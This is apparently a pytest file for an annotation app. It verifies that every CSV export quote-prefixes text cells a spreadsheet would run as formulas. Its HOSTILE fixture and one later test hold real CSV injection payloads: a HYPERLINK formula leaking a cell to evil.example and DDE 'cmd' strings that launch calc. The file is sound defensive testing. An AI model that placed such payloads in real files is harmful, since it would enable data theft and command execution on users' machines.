"""Every CSV the app writes neutralises text cells a spreadsheet would run as a formula
(OWASP CSV injection): the CSV export (file and HTTP download) and the Shapefile zip's
truncated.csv. Numbers written as numbers, negative ones included, stay numbers."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Callable
from pathlib import Path

import numpy as np
import pyarrow as pa
import shapely
from flask import Flask
from rasterio.transform import from_origin
from shapely.geometry import mapping

from annotations import annotation as store
from annotations.annotation import Actor
from annotations.catalogue.images import Provenance
from annotations.catalogue.users import Role
from annotations.exchange import Selection, export
from annotations.exchange.gdal import truncated_text
from annotations.exchange.spreadsheet import FORMULA_START, neutralise, neutralise_batch
from annotations.feature import parse_feature
from annotations.search import Filters
from annotator import services
from annotator.intake import Upload, import_images
from tests.conftest import token_for

#: one hostile value per character a spreadsheet starts a formula with
HOSTILE = {
    "=": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


def test_neutralise_quotes_only_formula_starts() -> None:
    for start, value in HOSTILE.items():
        assert value.startswith(start)
        assert neutralise(value) == "'" + value
    for harmless in ("", "Hangar", "1-2", " =x", "'=already", "2024-12-13T08:21:00Z", "{}"):
        assert neutralise(harmless) == harmless


def test_a_batch_keeps_its_numbers_and_nulls() -> None:
    batch = pa.RecordBatch.from_pydict({
        "text": pa.array(["-5 tanks", None, "ok", "=1"], pa.string()),
        "real": pa.array([-70.5, -0.0, None, 1.0], pa.float64()),
        "integer": pa.array([-3, 2, None, 4], pa.int32()),
    })  # fmt: skip
    out = neutralise_batch(batch)
    assert out.column("text").to_pylist() == ["'-5 tanks", None, "ok", "'=1"]
    assert out.column("real").equals(batch.column("real"))
    assert out.column("integer").equals(batch.column("integer"))
    assert out.schema == batch.schema


def hostile_world(app: Flask, make_geotiff: Callable[..., Path], pad: str = "") -> list[str]:
    """An image in the south-west quadrant (negative longitudes and latitudes) whose
    provider, licence and attribution, and whose annotations' notes, are formulas."""
    data = np.random.default_rng(9).integers(1, 255, (3, 200, 200), dtype=np.uint8)
    path = make_geotiff("santiago.tif", data=data, crs="EPSG:4326",
                        transform=from_origin(-70.65, -33.44, 1e-5, 1e-5))  # fmt: skip
    database = services.database(app)
    provenance = Provenance(provider=HOSTILE["="], licence=HOSTILE["+"], attribution=HOSTILE["@"])
    [imported] = import_images(
        database, app.config["IMAGES_DIR"], [Upload(path, path.name)], provenance, max_pixels=10**9
    )
    image = imported.image
    lon, lat = image.footprint.centroid.x, image.footprint.centroid.y
    ids = []
    with database.write() as session:
        for number, value in enumerate(HOSTILE.values()):
            feature = {
                "type": "Feature",
                "geometry": mapping(shapely.Point(lon + number * 1e-5, lat)),
                "properties": {
                    "label": "vehicle.truck",
                    "image_id": image.id,
                    "notes": value + pad,
                },
            }
            parsed = parse_feature(feature, services.taxonomy(app))
            made = store.create(session, parsed, Actor("analyst", Role.analyst))
            ids.append(made.id)
    return ids


def check_cells(text: str) -> list[dict[str, str]]:
    """No cell starts a formula unless it is a number; returns the rows."""
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert rows
    for row in rows:
        for name, cell in row.items():
            if cell and cell.startswith(FORMULA_START):
                float(cell)  # only a number may start with "-" (or "+")
                assert name in ("centroid_lon", "centroid_lat"), (name, cell)
    return rows


def test_the_csv_export_neutralises_every_text_cell(
    app_on_each_backend: Flask, make_geotiff: Callable[..., Path], tmp_path: Path
) -> None:
    app = app_on_each_backend
    ids = hostile_world(app, make_geotiff)
    target = tmp_path / "out.csv"
    selection = Selection(
        database=services.database(app), filters=Filters(),
        taxonomy=services.taxonomy(app), images_dir=Path(app.config["IMAGES_DIR"]),
    )  # fmt: skip
    assert export(selection, "csv", target) == len(HOSTILE)
    rows = check_cells(target.read_bytes().decode("utf-8"))
    by_id = {row["id"]: row for row in rows}
    for annotation_id, value in zip(ids, HOSTILE.values(), strict=True):
        row = by_id[annotation_id]
        assert row["notes"] == "'" + value
        assert row["provider"] == "'" + HOSTILE["="]
        assert row["licence"] == "'" + HOSTILE["+"]
        assert row["attribution"] == "'" + HOSTILE["@"]
        # negative numbers are written as numbers, unquoted
        assert float(row["centroid_lon"]) < -70 and float(row["centroid_lat"]) < -33
        assert row["centroid_lon"].startswith("-")


def test_the_csv_download_neutralises_too(app: Flask, make_geotiff: Callable[..., Path]) -> None:
    hostile_world(app, make_geotiff)
    response = app.test_client().get(
        "/api/v1/exports?format=csv",
        headers={"Authorization": f"Bearer {token_for(app, 'viewer')}"},
    )
    assert response.status_code == 200
    rows = check_cells(response.get_data(as_text=True))
    assert sorted(row["notes"] for row in rows) == sorted("'" + v for v in HOSTILE.values())


def test_truncated_csv_neutralises_and_quotes() -> None:
    text = truncated_text([("=cmd|' /C calc'!A0", "notes", 300), ("abc,def", "attributes", 400)])
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows == [
        ["id", "field", "bytes"],
        ["'=cmd|' /C calc'!A0", "notes", "300"],
        ["abc,def", "attributes", "400"],
    ]
    assert text.endswith("\r\n")


def test_the_shapefile_zips_truncated_csv(
    app: Flask, make_geotiff: Callable[..., Path], tmp_path: Path
) -> None:
    """A real Shapefile export whose notes (formulas, 300 bytes and more) are cut:
    truncated.csv reads back as CSV and has no formula cell."""
    ids = hostile_world(app, make_geotiff, pad="x" * 300)
    target = tmp_path / "out.zip"
    selection = Selection(
        database=services.database(app), filters=Filters(),
        taxonomy=services.taxonomy(app), images_dir=Path(app.config["IMAGES_DIR"]),
    )  # fmt: skip
    export(selection, "shp", target)
    with zipfile.ZipFile(target) as archive:
        text = archive.read("truncated.csv").decode("utf-8")
    rows = check_cells(text)
    for annotation_id, value in zip(ids, HOSTILE.values(), strict=True):
        assert {"id": annotation_id, "field": "notes", "bytes": str(len(value) + 300)} in rows
